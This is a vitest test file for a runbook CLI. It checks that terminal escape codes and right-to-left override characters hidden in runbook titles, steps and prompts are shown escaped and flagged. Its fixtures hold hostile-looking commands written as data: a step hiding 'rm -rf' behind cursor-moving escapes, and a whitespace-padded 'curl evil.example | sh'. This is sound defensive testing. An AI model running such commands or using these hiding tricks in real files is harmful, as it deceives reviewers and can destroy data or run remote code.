/**
 * Nothing from data reaches the terminal raw. A runbook whose title and step hide cursor-moving
 * escapes and a right-to-left override is listed, shown and asked about by the real CLI: every
 * hidden character comes out as a visible escape, the lines that hide them are marked, and the
 * `--json` output still parses to the exact text while holding no raw control character.
 */
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import pty from '@lydell/node-pty';
import { BUILT, CLI, runCli, tempDir, trustRunbook } from './helpers.js';

const STEP_LINE = '# \x1b[1A\x1b[2K\x1b[1Gecho harmless; rm -rf "$HOME/x" \u202eevil';
let dir: string;
let runbooks: string;

beforeAll(() => {
  dir = tempDir('escapes');
  runbooks = path.join(dir, 'runbooks');
  fs.mkdirSync(runbooks);
  fs.writeFileSync(
    path.join(runbooks, 'escape-trick.md'),
    [
      '---',
      'title: "Harmless\\e[1A\\e[2K\\e[32m VALID"',
      'id: escape-trick',
      '---',
      '# Harmless',
      '',
      '```sh {"name":"innocent"}',
      STEP_LINE,
      `echo ok${' '.repeat(250)}; curl evil.example | sh`,
      '```',
      '',
    ].join('\n'),
  );
});
afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

// eslint-disable-next-line no-control-regex -- stripping terminal escapes is the point
const RAW = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

describe.skipIf(!BUILT)('terminal escapes in runbook data', () => {
  const common = () => ['--runbooks', runbooks, '--data-dir', path.join(dir, 'data')];

  it('attack: runlog show of a step hiding ESC[1A ESC[2K and an RTL override → escaped and marked', async () => {
    const r = await runCli(['show', 'escape-trick', ...common()]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).not.toMatch(RAW);
    expect(r.stdout).toContain('Harmless\\x1b[1A\\x1b[2K\\x1b[32m VALID');
    expect(r.stdout).toContain(
      '! # \\x1b[1A\\x1b[2K\\x1b[1Gecho harmless; rm -rf "$HOME/x" \\u202eevil   ◀ hidden characters',
    );
    expect(r.stdout).toMatch(/curl evil\.example \| sh {3}◀ long line/);
  });

  it('attack: runlog list of that runbook → its title escaped', async () => {
    const r = await runCli(['list', ...common()]);
    expect(r.stdout + r.stderr).not.toMatch(RAW);
    expect(r.stdout).toContain('Harmless\\x1b[1A');
  });

  it('attack: runlog show --json → no raw control or bidi character, same text when parsed', async () => {
    const r = await runCli(['show', 'escape-trick', '--json', ...common()]);
    expect(r.stdout).not.toMatch(RAW);
    const parsed = JSON.parse(r.stdout) as { runbook: { steps: Array<{ text: string }> } };
    expect(parsed.runbook.steps[0]!.text.split('\n')[0]).toBe(STEP_LINE);
  });

  /**
   * Writes a runbook, trusts it, and walks it with `runlog run` in a real terminal, answering the
   * first time `question` shows with `answer`. Resolves with the exit code and everything shown.
   */
  async function walkOnce(id: string, source: string, question: string, answer: string) {
    fs.writeFileSync(path.join(runbooks, `${id}.md`), source);
    await trustRunbook(path.join(dir, 'data'), id, [runbooks]);
    const term = pty.spawn(process.execPath, [CLI, 'run', id, ...common()], {
      cols: 200,
      rows: 40,
      env: { ...process.env, TERM: 'xterm' } as Record<string, string>,
    });
    let screen = '';
    let answered = false;
    const exited = new Promise<number>((resolve) => term.onExit((e) => resolve(e.exitCode)));
    term.onData((d) => {
      screen += d;
      if (!answered && screen.includes(question)) {
        answered = true;
        term.write(answer);
      }
    });
    return { code: await exited, screen };
  }

  it('attack: the confirmation prompt of a gated step shows its text escaped (in a real terminal)', async () => {
    const { code, screen } = await walkOnce(
      'gated',
      `---\nid: gated\n---\n# Gated\n\n\`\`\`sh {"name":"gate","confirm":"sure?\\u001b[2K"}\n${STEP_LINE}\n\`\`\`\n`,
      'Run it? [y]es',
      'n\r',
    );
    // Declined: nothing ran, the run is left open (exit 3).
    expect(code).toBe(3);
    expect(screen).toContain('sure?\\x1b[2K');
    expect(screen).toContain('\\x1b[1A\\x1b[2K\\x1b[1Gecho harmless; rm -rf "$HOME/x" \\u202eevil');
    expect(screen).not.toContain('\x1b[1A\x1b[2K\x1b[1Gecho');
    expect(screen).not.toContain('\u202e');
  });

  it('attack: the walk asks a checklist question hiding ESC[2J and an RTL override → escaped, and so is what it prints after', async () => {
    const { code, screen } = await walkOnce(
      'asked',
      `---\nid: asked\n---\n# Asked\n\n- [ ] Is the window \x1b[2J\x1b[H approved \u202eon?\n`,
      '[l]ater: ',
      'l\r',
    );
    // Answered "later": the run is left open with the question pending (exit 3).
    expect(code).toBe(3);
    expect(screen).toContain('Is the window \\x1b[2J\\x1b[H approved \\u202eon?');
    expect(screen).not.toContain('\x1b[2J');
    expect(screen).not.toContain('\u202e');
    expect(screen).toContain('runlog resume');
  });
});
